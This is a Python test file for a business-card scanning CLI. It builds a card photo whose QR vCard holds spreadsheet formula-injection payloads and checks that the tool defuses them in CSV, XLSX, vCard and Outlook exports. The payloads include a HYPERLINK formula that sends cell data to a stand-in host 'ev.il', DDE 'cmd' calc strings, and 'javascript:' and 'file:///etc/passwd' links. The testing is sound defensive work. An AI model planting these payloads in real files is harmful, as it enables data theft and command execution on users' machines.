"""One rule for every CSV cell cardscan writes, and QR codes checked like OCR readings.

The hostile card is built here: a card photo carrying a QR code whose vCard holds
spreadsheet formulas and `javascript:`/`file:` links. It is ingested once, by the real
CLI, into a CSV book a user already keeps (their own row holds cells that start with
an apostrophe and a formula of their own); every test then reads that book, or a copy,
through the real commands.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import openpyxl
import pytest
import segno
import vobject
from click.testing import CliRunner, Result
from conftest import run_cli
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, ImageDraw, ImageFont

from cardscan.book import COLUMNS
from cardscan.cli.main import cli
from cardscan.formulas import defuse, runs_as_formula, undefuse

NAME = '=HYPERLINK("http://ev.il/?"&A1,"x")'
COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "+cmd|' /C calc'!A0"
EMAIL = "jane@example.com"
# Short values keep the code at version 11, which OpenCV decodes at every module
# size and JPEG quality tried (5-12 px, quality 75-92): no borderline reading.
VCARD = "\r\n".join(
    [
        "BEGIN:VCARD",
        "VERSION:3.0",
        'FN:=HYPERLINK("http://ev.il/?"&A1\\,"x")',  # vCard escapes the comma
        f"ORG:{COMPANY}",
        f"TITLE:{TITLE}",
        f"EMAIL:{EMAIL}",
        "TEL;TYPE=CELL:+44 7911 123456",
        "TEL:-2+3",
        "URL:javascript:alert(1)",
        "URL:file:///etc/passwd",
        "URL:https://u:p@ev.il/",
        "URL:https://acme.example.com/",
        "END:VCARD",
        "",
    ]
)
FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"

# The user's own row: cells typed in their spreadsheet or editor, which cardscan must
# give back byte for byte when it does not change them.
USER_CELLS = {
    "Name": "Ann Other",
    "Emails": "ann@other.example",
    "Notes": "'=not a formula",
    "Tags": "'tis the season",
    "Website": "file://fileserver/share/ann.html",
    "Hobby": "=SUM(A1:A3)",
}
USER_HEADER = [*COLUMNS, "Hobby"]


def would_run(cell: str) -> bool:
    """A spreadsheet's view, written independently of cardscan.formulas: a cell that
    starts (after spaces) with = + - @, or with a tab or CR, is a formula, unless it is
    a negative number or phone numbers in the book's format."""
    if cell[:1] in ("\t", "\r"):
        return True
    text = cell.strip()
    if text[:1] not in ("=", "+", "-", "@"):
        return False
    phone = r"\+\d{1,3}(?:[ -]?\(\d+\)|[ -]\d+|(?<=\))\d+)+(?: ext\. \d+)?"
    return not re.fullmatch(rf"-\d+(?:[.,]\d+)*|{phone}(?:; {phone})*|[+-]", text)


def only_digits_if_unquoted(cell: str) -> bool:
    """What makes a formula harmful (a function, a reference, a string, a DDE command)
    needs letters or quotes: a cell left without the apostrophe that starts like a
    formula holds nothing but digits and phone punctuation."""
    text = cell.strip()
    starts_like_a_formula = text[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r", "\n")
    if cell[:1] == "'" or not starts_like_a_formula:
        return True
    return bool(re.fullmatch(r"[+-][0-9 ()./;#+-]*(?:ext\.? ?[0-9]+)?", text, re.IGNORECASE))


def card_photo(path: Path) -> None:
    """A white card on a dark table: two printed fax/phone lines (text for the OCR that
    no name, title or company can come from) and the QR code."""
    modules = segno.make(VCARD, error="l", micro=False, encoding="utf-8").matrix
    px, quiet = 8, 4
    side = (len(modules) + 2 * quiet) * px
    code = Image.new("L", (side, side), 255)
    draw = ImageDraw.Draw(code)
    for r, row in enumerate(modules):
        for c, dark in enumerate(row):
            if dark:
                x, y = (c + quiet) * px, (r + quiet) * px
                draw.rectangle((x, y, x + px - 1, y + px - 1), fill=0)
    card = Image.new("RGB", (1600, 950), "white")
    text = ImageDraw.Draw(card)
    font = ImageFont.truetype(FONT, 56)
    text.text((80, 330), "Tel +44 20 7946 0958", font=font, fill="black")
    text.text((80, 480), "Fax +44 20 7946 0959", font=font, fill="black")
    card.paste(code.convert("RGB"), (1600 - side - 40, (950 - side) // 2))
    photo = Image.new("RGB", (2000, 1400), (92, 74, 60))
    photo.paste(card, (200, 225))
    photo.save(path)


def user_book(path: Path) -> bytes:
    """The user's CSV book before cardscan sees the card: their row, written by csv."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(USER_HEADER)
    writer.writerow([USER_CELLS.get(column, "") for column in USER_HEADER])
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))
    return buffer.getvalue().splitlines()[1].encode("utf-8")


def raw_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def raw_lines(path: Path) -> list[bytes]:
    return path.read_bytes().removeprefix(b"\xef\xbb\xbf").split(b"\r\n")


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder whose contacts.csv holds the user's row and the hostile card's row."""
    folder = tmp_path_factory.mktemp("hostile-qr")
    card_photo(folder / "card.png")
    user_book(folder / "contacts.csv")
    done = run_cli(
        "ingest", "card.png", "--book", "contacts.csv", "--met-on", "2026-11-21",
        "--region", "GB", cwd=folder,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture
def book(ingested: Path, tmp_path: Path) -> Path:
    """A copy of the ingested book, for tests that write to it."""
    shutil.copy(ingested / "contacts.csv", tmp_path / "contacts.csv")
    return tmp_path / "contacts.csv"


def card_row(path: Path) -> dict[str, str]:
    header, *rows = raw_rows(path)
    (row,) = [r for r in rows if EMAIL in r[header.index("Emails")]]
    return dict(zip(header, row, strict=False))


# --- the rule --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        # data, not formulas: phones as the book writes them, negative numbers, signs
        ("+44 20 7946 0958", "+44 20 7946 0958"),
        ("+1 415-555-0187 ext. 240", "+1 415-555-0187 ext. 240"),
        ("+49 1511 2345678; +49 30 123456", "+49 1511 2345678; +49 30 123456"),
        ("+44 (0)20 7946 0958", "+44 (0)20 7946 0958"),
        ("-12", "-12"),
        ("-1,234.56", "-1,234.56"),
        ("-", "-"),
        ("+", "+"),
        ("plain", "plain"),
        ("", ""),
        ("'tis", "'tis"),
        # formulas and what a spreadsheet may take for one
        (NAME, "'" + NAME),
        (COMPANY, "'" + COMPANY),
        (TITLE, "'" + TITLE),
        ("-2+3", "'-2+3"),
        ("+2-3", "'+2-3"),  # phone-shaped, but too few digits for a phone
        ("+1+1", "'+1+1"),
        ("+5", "'+5"),  # a spreadsheet would show 5
        ("-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\rhello", "'\rhello"),
        ("＝1+1", "'＝1+1"),
        ("+44 20 7946 0958; =1+1", "'+44 20 7946 0958; =1+1"),
        # text that starts with an apostrophe before a formula keeps it on reading back
        ("'=x", "''=x"),
    ],
)
def test_what_is_defused_and_what_is_data(text: str, written: str) -> None:
    assert defuse(text) == written
    assert undefuse(written) == text
    assert not would_run(written)


@given(st.text())
def test_defusing_round_trips_any_text_and_never_leaves_a_formula(text: str) -> None:
    written = defuse(text)
    assert undefuse(written) == text
    assert not runs_as_formula(written)
    assert only_digits_if_unquoted(written)


@given(st.text())
def test_a_cell_that_is_not_ours_reads_back_as_it_is_unless_it_starts_with_the_mark(
    cell: str,
) -> None:
    # Only an apostrophe defuse() could have written is ever taken off.
    read = undefuse(cell)
    assert read == cell or (cell.startswith("'") and read == cell[1:] and defuse(read) == cell)


# --- the CSV book, through the real CLI -------------------------------------------


def test_the_card_row_is_defused_in_the_file_and_no_cell_would_run(ingested: Path) -> None:
    row = card_row(ingested / "contacts.csv")
    assert row["Name"] == "'" + NAME
    assert row["Title"] == "'" + TITLE
    assert row["Company"] == "'" + COMPANY
    # phones stay plain numbers, for the other tools that read the book
    assert row["Mobile"] == "+44 7911 123456"
    header, *rows = raw_rows(ingested / "contacts.csv")
    card_cells = [cell for r in rows if EMAIL in r[header.index("Emails")] for cell in r]
    assert [c for c in card_cells if would_run(c)] == []
    assert [h for h in header if would_run(h)] == []


def test_qr_links_that_are_not_web_addresses_never_reach_the_book(ingested: Path) -> None:
    row = card_row(ingested / "contacts.csv")
    assert row["Website"] == "acme.example.com"
    for cell in row.values():
        assert not re.match(r"\W*(javascript|file|data):", cell, re.IGNORECASE), cell
        assert "u:p@" not in cell.split("QR code:")[0]
    reasons = row["Review reasons"]
    assert "QR code: web address 'javascript:alert(1)' is not an http or https web address" in (
        reasons
    )
    assert "QR code: web address 'file:///etc/passwd'" in reasons
    assert "QR code: web address 'https://u:p@ev.il/' carries a user name or password" in reasons
    assert "QR code: phone '-2+3' is not a phone number" in reasons
    assert row["Needs review"] == "yes"


def test_the_users_own_row_is_kept_byte_for_byte(ingested: Path, tmp_path: Path) -> None:
    user_line = user_book(tmp_path / "before.csv")
    assert raw_lines(ingested / "contacts.csv")[1] == user_line


def test_reading_back_gives_the_text_as_read(ingested: Path, tmp_path: Path) -> None:
    book = str(ingested / "contacts.csv")
    found = invoke("find", EMAIL, "--json", "--book", book)
    assert found.exit_code == 0, found.output
    (person,) = json.loads(found.output)
    assert (person["name"], person["title"], person["company"]) == (NAME, TITLE, COMPANY)
    assert person["websites"] == ["acme.example.com"]

    out = tmp_path / "all.json"
    done = invoke("export", "--book", book, "--to", str(out), "--format", "json")
    assert done.exit_code == 0, done.output
    people = {p["emails"][0]: p for p in json.loads(out.read_text(encoding="utf-8"))}
    assert people[EMAIL]["name"] == NAME and people[EMAIL]["company"] == COMPANY
    # The user's apostrophe before "=" is read as a spreadsheet reads it: the text mark.
    assert people["ann@other.example"]["notes"] == "=not a formula"
    assert people["ann@other.example"]["tags"] == ["'tis the season"]

    # Matching sees the original text too: the name is found by what the card says.
    by_name = invoke("find", "=HYPERLINK", "--json", "--field", "name", "--book", book)
    assert [p["company"] for p in json.loads(by_name.output)] == [COMPANY]


def test_find_csv_and_the_csv_exports_are_defused(ingested: Path, tmp_path: Path) -> None:
    book = str(ingested / "contacts.csv")
    found = invoke("find", EMAIL, "--csv", "--book", book)
    assert found.exit_code == 0, found.output
    header, row = list(csv.reader(io.StringIO(found.output)))
    assert row[header.index("Name")] == "'" + NAME
    assert [c for c in header + row if would_run(c)] == []

    expected = {"csv": "'" + NAME, "google": "'" + COMPANY, "outlook": "'" + COMPANY}
    for fmt, defused in expected.items():
        out = tmp_path / f"{fmt}.csv"
        done = invoke("export", "--book", book, "--to", str(out), "--format", fmt)
        assert done.exit_code == 0, done.output
        cells = [cell for r in raw_rows(out) for cell in r]
        assert defused in cells, fmt
        # The user's own "=SUM(A1:A3)" is in the plain export's Hobby column: defused
        # there too, since the export is a file cardscan wrote.
        assert [c for c in cells if would_run(c)] == [], fmt


def test_xlsx_export_writes_text_cells_without_an_apostrophe_and_links_only_web_pages(
    ingested: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.xlsx"
    done = invoke("export", "--book", str(ingested / "contacts.csv"), "--to", str(out))
    assert done.exit_code == 0, done.output
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = {sheet.cell(r, 1).value: r for r in range(2, sheet.max_row + 1)}
    name = sheet.cell(cells[NAME], header.index("Name") + 1)
    company = sheet.cell(cells[NAME], header.index("Company") + 1)
    assert (name.value, name.data_type) == (NAME, "s")
    assert (company.value, company.data_type) == (COMPANY, "s")
    # Websites are links only to web pages: the user's "file:" address stays text.
    website = header.index("Website") + 1
    assert sheet.cell(cells[NAME], website).hyperlink.target == "https://acme.example.com"
    user_site = sheet.cell(cells["Ann Other"], website)
    assert (user_site.value, user_site.hyperlink) == (USER_CELLS["Website"], None)


def test_vcard_and_outlook_exports_link_only_web_pages(ingested: Path, tmp_path: Path) -> None:
    """The user's "file:" website is no vCard URL nor Outlook Web Page (a contacts app
    would open it); it is kept as text in the notes."""
    vcf, outlook = tmp_path / "out.vcf", tmp_path / "outlook.csv"
    book = str(ingested / "contacts.csv")
    assert invoke("export", "--book", book, "--to", str(vcf)).exit_code == 0
    done = invoke("export", "--book", book, "--to", str(outlook), "--format", "outlook")
    assert done.exit_code == 0, done.output
    cards = {c.fn.value: c for c in vobject.readComponents(vcf.read_text(encoding="utf-8"))}
    assert [u.value for u in cards[NAME].contents.get("url", [])] == ["https://acme.example.com"]
    assert "url" not in cards["Ann Other"].contents
    assert f"Website: {USER_CELLS['Website']}" in cards["Ann Other"].note.value
    with outlook.open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["First Name"]: r for r in csv.DictReader(fh)}
    assert rows["Ann"]["Web Page"] == ""
    assert f"Website: {USER_CELLS['Website']}" in rows["Ann"]["Notes"]


def test_commands_that_rewrite_the_book_keep_the_users_cells_and_defuse_once(
    book: Path, tmp_path: Path
) -> None:
    user_line = user_book(tmp_path / "before.csv")
    tagged = invoke("tag", EMAIL, "met-at-expo", "--book", str(book))
    assert tagged.exit_code == 0, tagged.output
    assert raw_lines(book)[1] == user_line
    row = card_row(book)
    assert (row["Name"], row["Tags"]) == ("'" + NAME, "met-at-expo")

    # A note under the user's "'=not a formula": their text stays, the cell stays defused.
    noted = invoke("note", "ann@other.example", "call", "back", "--on", "2026-11-22",
                   "--book", str(book))  # fmt: skip
    assert noted.exit_code == 0, noted.output
    header, *rows = raw_rows(book)
    assert rows[0][header.index("Notes")] == "'=not a formula\n2026-11-22: call back"
    found = invoke("find", "ann@other.example", "--json", "--book", str(book))
    assert json.loads(found.output)[0]["notes"] == "=not a formula\n2026-11-22: call back"
